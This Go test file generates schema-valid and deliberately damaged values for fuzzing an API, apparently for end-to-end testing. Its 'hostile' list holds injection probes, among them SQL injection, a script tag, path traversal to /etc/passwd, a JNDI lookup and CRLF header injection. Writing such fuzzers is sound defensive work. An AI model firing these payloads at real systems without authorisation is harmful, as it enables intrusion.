package e2e

import (
	"math"
	"math/rand/v2"
	"slices"
	"strings"

	"github.com/google/uuid"
)

// invention makes values up: those that a schema allows, and those that hurt.
type invention struct {
	dice     *rand.Rand
	document openAPI
	// known are IDs that exist, as answers gave them.
	known []string
}

// hostile are strings that have broken programs before.
var hostile = []string{
	"", " ", "\x00", "' OR 1=1 --", "<script>alert(1)</script>", "../../etc/passwd", "%00%0a", "\u202egnp.exe", "é\u0301\u200d", "NaN", "null", "-1",
	"0000-00-00", "9999-12-31T23:59:60Z", "{{7*7}}", "${jndi:ldap://example.test}", strings.Repeat("a", 5000), strings.Repeat("𝕏", 300), "\r\nX-Injected: yes",
}

const deepest = 6

// valid makes a value that the schema allows, as far as this reads schemas.
func (i *invention) valid(schema map[string]any, depth int) any {
	schema = i.document.resolve(schema)
	if choices, some := schema["enum"].([]any); some && len(choices) > 0 {
		return choices[i.dice.IntN(len(choices))]
	}
	for _, way := range []string{"oneOf", "anyOf"} {
		if ways, some := schema[way].([]any); some && len(ways) > 0 {
			return i.valid(ways[i.dice.IntN(len(ways))].(map[string]any), depth+1)
		}
	}
	switch typeOf(schema, i.dice) {
	case "object":
		return i.object(schema, depth)
	case "array":
		made := []any{}
		items, _ := schema["items"].(map[string]any)
		for range i.dice.IntN(3) {
			if depth < deepest {
				made = append(made, i.valid(items, depth+1))
			}
		}
		return made
	case "integer":
		return i.between(schema)
	case "number":
		return i.dice.Float64() * 100
	case "boolean":
		return i.dice.IntN(2) == 0
	case "null":
		return nil
	default:
		return i.text(schema)
	}
}

func typeOf(schema map[string]any, dice *rand.Rand) string {
	switch typed := schema["type"].(type) {
	case string:
		return typed
	case []any:
		return typed[dice.IntN(len(typed))].(string)
	default:
		return "string"
	}
}

func (i *invention) object(schema map[string]any, depth int) map[string]any {
	made := map[string]any{}
	required, _ := schema["required"].([]any)
	for name, property := range at(schema, "properties") {
		if slices.Contains(required, any(name)) || depth < deepest && i.dice.IntN(3) > 0 {
			made[name] = i.valid(property.(map[string]any), depth+1)
		}
	}
	return made
}

func (i *invention) between(schema map[string]any) int {
	least, most := 0, 100
	if bound, some := schema["minimum"].(float64); some {
		least = int(bound)
	}
	if bound, some := schema["maximum"].(float64); some {
		most = int(bound)
	}
	return least + i.dice.IntN(max(1, most-least+1))
}

func (i *invention) text(schema map[string]any) string {
	switch schema["format"] {
	case "uuid":
		return i.id()
	case "date-time":
		return []string{"2027-03-28T02:30:00Z", "2026-12-01T08:00:00-05:00", "2020-02-29T00:00:00Z"}[i.dice.IntN(3)]
	case "date":
		return []string{"2028-02-29", "2026-12-31", "2020-01-01"}[i.dice.IntN(3)]
	case "email":
		return "somebody@example.test"
	case "uri":
		return "https://example.test/path"
	}
	if i.dice.IntN(4) == 0 {
		return i.id()
	}
	return []string{"x", "John", "4100000017", "interactive_gold", "2028-02-29", "US", "en", "Simon's café", "always"}[i.dice.IntN(9)]
}

// id is one that exists, mostly.
func (i *invention) id() string {
	if len(i.known) > 0 && i.dice.IntN(4) > 0 {
		return i.known[i.dice.IntN(len(i.known))]
	}
	return uuid.UUID{byte(i.dice.IntN(256)), 0x3f, 0xa2}.String()
}

// spoil damages a value somewhere.
func (i *invention) spoil(value any) any {
	switch typed := value.(type) {
	case map[string]any:
		if len(typed) > 0 && i.dice.IntN(4) > 0 {
			names := make([]string, 0, len(typed))
			for name := range typed {
				names = append(names, name)
			}
			slices.Sort(names)
			name := names[i.dice.IntN(len(names))]
			if i.dice.IntN(5) == 0 {
				delete(typed, name)
			} else {
				typed[name] = i.spoil(typed[name])
			}
			return typed
		}
		typed["no_such_member"] = i.wrong()
		return typed
	case []any:
		if len(typed) > 0 && i.dice.IntN(2) == 0 {
			at := i.dice.IntN(len(typed))
			typed[at] = i.spoil(typed[at])
			return typed
		}
		for range 300 {
			typed = append(typed, i.wrong())
		}
		return typed
	default:
		return i.wrong()
	}
}

// wrong is a value that hardly fits anywhere.
func (i *invention) wrong() any {
	switch i.dice.IntN(7) {
	case 0:
		return nil
	case 1:
		return []any{[]any{[]any{}}}
	case 2:
		return map[string]any{"a": map[string]any{"b": nil}}
	case 3:
		return []any{math.MaxInt64, -1, 1e300, 0.1}[i.dice.IntN(4)]
	case 4:
		return i.dice.IntN(2) == 0
	default:
		return hostile[i.dice.IntN(len(hostile))]
	}
}
